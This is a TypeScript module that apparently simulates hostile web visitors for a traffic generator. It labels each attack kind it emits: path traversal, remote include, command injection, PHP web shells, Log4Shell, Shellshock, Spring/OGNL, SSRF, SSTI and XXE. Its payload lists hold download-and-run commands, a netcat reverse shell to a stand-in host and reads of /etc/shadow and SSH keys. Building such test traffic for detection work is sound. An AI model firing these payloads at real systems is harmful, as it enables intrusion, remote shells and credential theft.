/** What wants the server to run, load or fetch something: shell, PHP, Java, templates, XML, files, other hosts. */
import type { Persona } from '../actor.ts'
import { desktop, nameless, program } from '../clients.ts'
import type { Random } from '../random.ts'
import { visitor, withQuery } from '../visitor.ts'

const COMMANDS = [
  'id',
  'uname -a',
  'cat /etc/passwd',
  'wget http://203.0.113.250/x.sh -O /tmp/x',
  'curl http://203.0.113.250/r|sh',
  'nc -e /bin/sh 203.0.113.250 4444',
  'ping -c 3 203.0.113.250',
]

const shell = (r: Random): string => {
  const c = r.pick(COMMANDS)
  return r.pick([`lamp;${c}`, `lamp|${c}`, `lamp && ${c}`, `$(${c})`, `\`${c}\``, `lamp\n${c}`, `;/bin/bash -c '${c}'`])
}
const php = (r: Random): string =>
  r.pick([
    "<?php system($_GET['c']); ?>",
    'php://filter/convert.base64-encode/resource=config.php',
    "';phpinfo();//",
    'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: PHP's, not ours.
    '${@print(md5(31337))}',
    "<?= shell_exec('id') ?>",
    'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
  ])
const lookup = (r: Random): string => {
  const host = `${r.hex(6)}.collect.example.com`
  return r.pick([
    `\${jndi:ldap://${host}/a}`,
    `\${jndi:rmi://${host}/x}`,
    `\${jndi:dns://${host}}`,
    `\${jndi:\${lower:l}\${lower:d}ap://${host}/a}`,
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:ldap://${host}/z}`,
  ])
}
const bash = (r: Random): string =>
  `() { :;}; ${r.pick(['/bin/ping -c 1 203.0.113.250', 'echo; /usr/bin/id', '/bin/bash -c "cat /etc/passwd"'])}`

const up = (r: Random, depth: number): string =>
  r.pick(['../', '..%2f', '..\\', '%2e%2e/', '....//', '..%252f', '%c0%ae%c0%ae/']).repeat(depth)
const FILES = [
  'etc/passwd',
  'etc/shadow',
  'proc/self/environ',
  'windows/win.ini',
  'var/log/nginx/access.log',
  'root/.ssh/id_rsa',
  'etc/hosts',
]

export const CODE_EXECUTION: readonly Persona[] = [
  {
    kind: 'traversal',
    count: 4,
    play: (r, index) => {
      const v = visitor(index % 2 ? program('curl/8.9.1') : desktop(r), r)
      v.hostile('lfi')
      for (let i = r.int(8, 34); i > 0; i--) {
        v.pause(80, 1100)
        const file = up(r, r.int(3, 8)) + r.pick(FILES)
        v.get(
          r.chance(0.75)
            ? `/${r.pick(['download', 'blog/view', 'assets/get'])}?${r.pick(['file', 'page', 'path'])}=${file.replaceAll('\\', '%5c')}`
            : `/assets/${file.replaceAll('\\', '%5c')}`,
        )
      }
      return v.steps
    },
  },
  {
    kind: 'remote-include',
    count: 1,
    play: (r) => {
      const v = visitor(program('libwww-perl/6.77'), r)
      v.hostile('rfi')
      for (let i = 9; i > 0; i--) {
        v.pause(200, 1500)
        v.get(
          `/blog/view?page=${r.pick(['http://203.0.113.250/shell.txt?', 'ftp://203.0.113.250/c99.txt', 'https://203.0.113.250/r57.php%00'])}&x=${r.int(1, 99)}`,
        )
      }
      return v.steps
    },
  },
  {
    kind: 'shell',
    count: 3,
    play: (r) => {
      const v = visitor(desktop(r), r)
      v.page('/contact')
      v.hostile('rce')
      for (let i = r.int(7, 20); i > 0; i--) {
        v.pause(400, 2000)
        if (r.chance(0.5)) v.get(withQuery('/download', { file: shell(r) }))
        else v.form('/contact', { name: 'x', message: shell(r) })
      }
      return v.steps
    },
  },
  {
    kind: 'php',
    count: 2,
    play: (r) => {
      const v = visitor(program('python-urllib3/2.2.2'), r)
      v.hostile('php')
      for (let i = r.int(10, 24); i > 0; i--) {
        v.pause(100, 900)
        const what = r.int(0, 3)
        if (what === 0) v.upload('/upload', `${r.pick(['avatar', 'x', 'up'])}.php`, 'image/png', php(r))
        else if (what === 1)
          v.request(
            'POST',
            '/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input',
            [['Content-Type', 'application/x-www-form-urlencoded']],
            "<?php echo shell_exec('id'); ?>",
          )
        else v.get(withQuery(r.pick(['/blog/view', '/index.php', '/cms/preview']), { page: php(r) }))
      }
      return v.steps
    },
  },
  {
    kind: 'log4shell-spray',
    count: 4,
    play: (r, index) => {
      const v = visitor(index % 2 ? desktop(r) : program('Mozilla/5.0 zgrab/0.x'), r)
      v.hostile('java')
      for (let i = r.int(2, 6); i > 0; i--) {
        v.pause(300, 2500)
        const text = lookup(r)
        v.get(r.chance(0.4) ? `/?x=${encodeURIComponent(text)}` : '/', [
          r.pick([
            ['User-Agent', text],
            ['X-Api-Version', text],
            ['Referer', text],
          ] as const),
        ])
      }
      return v.steps
    },
  },
  {
    kind: 'java-expressions',
    count: 1,
    play: (r) => {
      const v = visitor(program('Java/17.0.12'), r)
      v.hostile('java')
      for (let i = 8; i > 0; i--) {
        v.pause(400, 1600)
        v.request(
          'POST',
          '/contact',
          [
            [
              'Content-Type',
              r.pick([
                "%{(#a='multipart/form-data').(#p=new java.lang.ProcessBuilder('id')).(#p.start())}",
                'application/x-www-form-urlencoded',
              ]),
            ],
          ],
          `class.module.classLoader.resources.context.parent.pipeline.first.pattern=${r.hex(8)}&cmd=java.lang.Runtime.getRuntime().exec('id')`,
        )
      }
      return v.steps
    },
  },
  {
    kind: 'shellshock-spray',
    count: 2,
    play: (r) => {
      const v = visitor(nameless, r)
      v.hostile('rce')
      for (const path of r.some(
        ['/cgi-bin/status', '/cgi-bin/test.cgi', '/cgi-sys/defaultwebpage.cgi', '/'],
        r.int(2, 4),
      )) {
        v.pause(200, 900)
        v.get(path, [[r.pick(['User-Agent', 'Referer']), bash(r)]])
      }
      return v.steps
    },
  },
  {
    kind: 'ssrf',
    count: 2,
    play: (r) => {
      const v = visitor(desktop(r), r, 'api.example.net')
      v.hostile('ssrf')
      for (let i = r.int(6, 12); i > 0; i--) {
        v.pause(500, 2000)
        const url = r.pick([
          'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
          'http://127.0.0.1:6379/',
          'http://[::1]:9200/_cat/indices',
          'gopher://127.0.0.1:25/_HELO',
          'file:///etc/passwd',
          'http://0x7f000001/admin',
        ])
        if (r.chance(0.5)) v.get(withQuery('/api/v1/preview', { url }))
        else v.json('/api/v1/import', { source: url })
      }
      return v.steps
    },
  },
  {
    kind: 'templates-and-xml',
    count: 2,
    play: (r) => {
      const v = visitor(desktop(r), r)
      for (let i = r.int(7, 12); i > 0; i--) {
        v.pause(500, 2200)
        if (r.chance(0.5)) {
          v.hostile('ssti')
          v.get(
            withQuery('/search', {
              q: r.pick([
                '{{7*7}}',
                // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of the attacked side.
                '${7*7}',
                "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
                '<%= system("id") %>',
                '#{7*7}',
              ]),
            }),
          )
        } else {
          v.hostile('xxe')
          v.request(
            'POST',
            '/api/v1/import',
            [['Content-Type', 'application/xml']],
            `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
          )
        }
      }
      return v.steps
    },
  },
]
